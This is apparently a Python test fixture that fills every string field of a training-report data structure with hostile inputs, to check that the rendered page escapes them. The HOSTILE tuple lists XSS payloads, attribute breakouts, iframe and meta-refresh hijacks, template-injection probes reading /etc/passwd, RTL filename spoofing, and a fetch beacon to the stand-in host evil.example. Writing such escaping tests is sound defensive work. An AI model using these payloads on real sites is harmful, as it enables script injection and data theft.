"""Texts that would do harm if a page took them for more than text."""

from __future__ import annotations

import itertools
from typing import Any

EVIL = "http://evil.example"
HOSTILE = (
    "<script>window.hacked = 1; alert(1)</script>",
    "<img src=x onerror=\"window.hacked = 2; fetch('http://evil.example/beacon')\">",
    "</style><script>window.hacked = 3</script>",
    "</title></desc></svg><svg onload='window.hacked = 4'><animate onbegin='window.hacked = 5' attributeName=x dur=1s>",
    '<a href="javascript:window.hacked=6" id=trap>click</a>',
    '" onmouseover="window.hacked = 7" style="background:url(http://evil.example/a)" x="',
    "' autofocus onfocus='window.hacked = 8' x='",
    "</pre></details><iframe src=http://evil.example srcdoc='<script>parent.hacked = 9</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "<style>@import 'http://evil.example/x.css'; * { display: none }</style><link rel=stylesheet href=http://evil.example>",
    "{{ 7 * 191 }} {% include '/etc/passwd' %} ${7 * 191} <%= 7 * 191 %>",
    "--> ]]> <![CDATA[ <!-- <plaintext> <textarea> <template> <form action=http://evil.example><input autofocus>",
    "&lt;script&gt;window.hacked = 10&lt;/script&gt; &#x3c;script&#x3e; \\u003cscript\\u003e",
    "safe\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe\N{POP DIRECTIONAL FORMATTING} \N{RIGHT-TO-LEFT ISOLATE}x \u200b\x1b[2J\x00",
)

STRUCTURE = ("method", "stage", "budget_unit", "pulled_by", "reason")
"""Values that this program writes itself and looks up."""

TRAINING = {
    "steps": 3,
    "texts": 9,
    "tokens": 300,
    "epochs": 1.0,
    "stopped_early": True,
    "seconds": 4.2,
    "engine": {"engine": "E", "zero_stage": 1, "workers": 1, "device": "cpu", "precision": "float32"},
    "base": {"name": "base"},
    "losses": [[1, 3.2], [2, 2.9], [3, 2.5]],
    "learning_rates": [[1, 1e-4], [2, 5e-5], [3, 0.0]],
    "dev": [{"step": 3, "loss": 2.7, "accuracy": 0.5}],
}
"""What a training leaves for its section."""

ROW = {"model": "m", "against": "n", "judge": "j", "set": "s", "metric": "x", "value": 1.0, "low": -0.5, "high": 2.0}
OVERLAP = {"judge": "j", "set": "s", "texts": 9, "subset": 2, "target": 1}
JUDGES = {"rows": [ROW | {"examples": 20, "minus_base": ROW}], "overlap": [OVERLAP]}


def poisoned(facts: dict[str, Any]) -> dict[str, Any]:
    """A report's numbers with every section that there is, in which each string is hostile."""
    full = facts | {"trainings": {"pretune": TRAINING, "finetune": TRAINING | {"dev": []}}, "judges": JUDGES}
    full["sets"]["corpus"]["bad_files"] = [{"uri": "u", "reason": "r", "detail": "d"}]
    full["sets"]["corpus"]["skipped"] = dict.fromkeys(HOSTILE, 3)
    one = full["samples"]["top"][0] | {"text": "t", "other_text": "o", "cosine": 0.99, "other": "o", "span": None}
    full["set_aside"] = {
        "counts": {"contaminated": 1, "near_duplicate": 2},
        "examples": {"near_duplicate": [one], "contaminated": [one | {"cosine": None, "span": "s"}]},
    }
    texts = itertools.cycle(HOSTILE)

    def spoil(value: Any, name: str = "") -> Any:
        if isinstance(value, dict):
            return {key: spoil(inner, key) for key, inner in value.items()}
        if isinstance(value, list):
            return [spoil(inner) for inner in value]
        return next(texts) if isinstance(value, str) and name not in STRUCTURE else value

    return spoil(full)
